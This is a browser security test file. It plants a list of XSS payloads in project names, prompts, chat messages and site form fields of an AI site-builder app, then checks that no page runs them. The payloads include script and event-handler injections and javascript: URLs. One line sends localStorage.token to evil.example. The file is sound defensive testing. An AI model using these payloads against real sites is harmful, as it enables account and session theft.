import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumPath, launchChromium, newContext } from '../../testing/browser/chromium';
import { newAccount, register, signedInUserId } from '../../testing/browser/page-helpers';
import { startAttackRun, Tally } from '../../testing/attack-run';
import { deploySeededSite } from '../../testing/cloud/deployed-site';
import { callApi, type SignedUpAccount } from '../../testing/cloud/local-accounts';
import { useSharedCloud } from '../../testing/cloud/local-cloud-suite';
import { seedProject, seedProjectVersion, setCredits } from '../../testing/cloud/seed';
import { visitSite } from '../../testing/cloud/visit-site';
import { isComplete, openTestSocket } from '../../testing/cloud/socket-client';
import { deployResponseSchema } from '../../shared/api/deployment-schemas';

/**
 * Script written where people type: project names and descriptions, prompts (the chat and the
 * version history, and chat messages that build and deploy a page), and the fields of a deployed
 * site's forms, as the SPA shows them (dashboard, projects, workspace, the site's form inbox) and
 * as visitors see the built pages. Each payload would set `window.__xss` or open an
 * alert: none may, and no page may throw. What the API refuses to store is stored directly, so
 * the pages are tried with every payload either way. ATTACK_SEED replays the order.
 */
const TIME_LIMIT_MS = 50_000;
const PROJECTS_WITH_PAYLOAD_NAMES = 20;

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)>',
  '"><script>alert(4)</script>',
  "'><img src=x onerror=alert(5)>",
  'javascript:alert(6)',
  '<a href="javascript:alert(7)">x7</a>',
  '<iframe src="javascript:alert(8)"></iframe>',
  '<body onload=alert(9)>',
  '<details open ontoggle=alert(10)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>',
  "{{constructor.constructor('alert(12)')()}}",
  '${alert(13)}',
  '<img src=x onerror="window.__xss=14">',
  "<style>@import 'javascript:alert(15)'</style>",
  '<input autofocus onfocus=alert(16)>',
  '<video><source onerror=alert(17)></video>',
  '<object data="javascript:alert(18)"></object>',
  '<embed src="javascript:alert(19)">',
  '<marquee onstart=alert(20)>x20</marquee>',
  '</textarea><script>alert(21)</script>',
  '</title><script>alert(22)</script>',
  '<!--<img src=x onerror=alert(23)>-->',
  '<scr<script>ipt>alert(24)</script>',
  '%3Cscript%3Ealert(25)%3C/script%3E',
  '&lt;script&gt;alert(26)&lt;/script&gt;',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(27)>',
  '<svg><script>alert&#40;28&#41;</script></svg>',
  '<a href="jav&#x09;ascript:alert(29)">x29</a>',
  '<form action="javascript:alert(30)"><button>x30</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(31)">',
  '<base href="javascript:alert(32)//">',
  '[x33](javascript:alert(33))',
  '<img src=x onerror="window.__xss=34;fetch(`//evil.example/?`+localStorage.token)">',
  '<div style="background:url(javascript:alert(35))">x35</div>',
  '\u003cscript\u003ealert(36)\u003c/script\u003e',
  '<svg><animate onbegin=alert(37) attributeName=x dur=1s>',
  '<img src=1 onerror=alert(38)//',
  '<x contenteditable autofocus onfocusin=alert(39)>x39</x>',
  '"onmouseover="window.__xss=40" autofocus onfocus="window.__xss=40',
];

/** Sent as chat messages over the live connection: each builds a site that is then deployed. */
const CHAT_PAYLOADS = [
  'A landing page for a bakery called <img src=x onerror=alert(41)>',
  'A one-page site for a tailor named "><script>alert(42)</script> in Surat',
];

const cloud = useSharedCloud();

describe.runIf(chromiumPath)('script in what people write, shown by the SPA in Chromium', () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let user: SignedUpAccount;
  const pageErrors: string[] = [];
  const dialogs: string[] = [];

  beforeAll(async () => {
    browser = await launchChromium();
    context = await newContext(browser, { viewport: { width: 1280, height: 900 } });
    page = await context.newPage();
    page.on('pageerror', (error) => pageErrors.push(error.message));
    page.on('dialog', (dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await register(page, cloud.url, newAccount('xss'));
    const sub = await signedInUserId(page);
    const idToken = await page.evaluate(() => localStorage.getItem('token') ?? '');
    user = { sub, idToken, accessToken: '', refreshToken: '' };
    await setCredits(cloud, sub, 10_000);
  }, 60_000);

  afterAll(async () => {
    await context?.close();
    await browser?.close();
  });

  /** Opens the page (an address of the SPA or a deployed site), waits for it to settle, and says what ran and how many payloads show. */
  async function visit(url: string) {
    await page.goto(url);
    await page.waitForLoadState('networkidle');
    await page.mouse.move(200, 200);
    await page.mouse.move(600, 400);
    const ran = await page.evaluate(() => (window as { __xss?: unknown }).__xss ?? null);
    const text = await page.evaluate(() => document.body.innerText);
    const shown = [...PAYLOADS, ...CHAT_PAYLOADS].filter((payload) =>
      text.includes(payload),
    ).length;
    return { ran, shown };
  }

  it('runs none of the payloads written as names, prompts, chat messages or form fields, in the app or the built sites, and no page throws', async () => {
    const run = startAttackRun(TIME_LIMIT_MS);
    const stored = new Tally();
    const payloads = run.random.shuffle(PAYLOADS);

    // Names and descriptions through the API, as the create form sends them; directly if refused.
    for (const payload of payloads.slice(0, PROJECTS_WITH_PAYLOAD_NAMES)) {
      const reply = await callApi(cloud, 'POST', '/api/projects/create', {
        token: user.idToken,
        body: { name: payload, description: payload, model: 'gpt-5' },
      });
      stored.add(`name via API ${reply.status}`);
      if (reply.status !== 200) {
        await seedProject(cloud, { userId: user.sub, name: payload, description: payload });
      }
    }
    // Prompts: a project whose versions were asked for with every payload, then deployed with a
    // form that visitors fill with them.
    const site = await deploySeededSite(
      cloud,
      user,
      'Form inbox',
      '<!doctype html><html lang="en"><head><title>Inbox</title></head><body><form id="contact"></form></body></html>',
    );
    for (const payload of payloads) {
      await seedProjectVersion(cloud, {
        userId: user.sub,
        projectId: site.projectId,
        html: '<!doctype html><html lang="en"><head><title>Inbox</title></head><body><form id="contact"></form></body></html>',
        prompt: payload,
      });
    }
    for (const [index, payload] of payloads.entries()) {
      const sent = await visitSite(`${site.url}_forms/contact`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ name: payload, message: payload, [`field${index}`]: payload }),
        from: `127.0.${10 + Math.floor(index / 10)}.${1 + (index % 10)}`,
      });
      stored.add(`form field ${sent.status}`);
    }

    // Chat messages as the workspace sends them: each builds its page, which is then deployed.
    const chats: { projectId: string; siteUrl: string }[] = [];
    for (const payload of CHAT_PAYLOADS) {
      const projectId = await seedProject(cloud, { userId: user.sub, name: 'Chat' });
      const socket = await openTestSocket(cloud, projectId, user.idToken);
      socket.generate(user.idToken, payload);
      const end = await socket.end({ timeoutMs: 30_000 });
      await socket.close();
      stored.add(`chat message ${isComplete(end) ? 'built' : JSON.stringify(end)}`);
      const deployed = await callApi(cloud, 'POST', '/api/deployments/deploy', {
        token: user.idToken,
        body: { project_id: projectId },
      });
      chats.push({
        projectId,
        siteUrl: deployResponseSchema.parse(deployed.body).deployment.preview_url,
      });
    }

    const pages = new Map<string, { ran: unknown; shown: number }>();
    for (const path of [
      '/dashboard',
      '/projects',
      `/workspace/${site.projectId}`,
      `/deployment/${site.projectId}`,
      ...chats.map((chat) => `/workspace/${chat.projectId}`),
    ]) {
      if (!run.inTime()) break;
      pages.set(path, await visit(`${cloud.url}${path}`));
    }
    // The generated pages themselves, as visitors open them.
    const sites = [];
    for (const chat of chats) sites.push(await visit(chat.siteUrl));
    run.report(
      'xss',
      `${PAYLOADS.length + CHAT_PAYLOADS.length} payloads; stored ${stored}; ${[...pages.entries()]
        .map(([path, { shown }]) => `${path.split('/')[1]} showed ${shown}`)
        .join(', ')}; ${dialogs.length} dialogs, ${pageErrors.length} page errors`,
    );

    expect(pages.size).toBe(4 + CHAT_PAYLOADS.length);
    expect(stored.toString()).toContain(`chat message built: ${CHAT_PAYLOADS.length}`);
    expect(sites.map(({ ran }) => ran)).toEqual(CHAT_PAYLOADS.map(() => null));
    expect(dialogs).toEqual([]);
    expect(pageErrors).toEqual([]);
    for (const [path, { ran, shown }] of pages) {
      expect({ path, ran }).toEqual({ path, ran: null });
      // Shown as text, so the page did render what it was given.
      expect({ path, shown: shown > 0 }).toEqual({ path, shown: true });
    }
  });
});
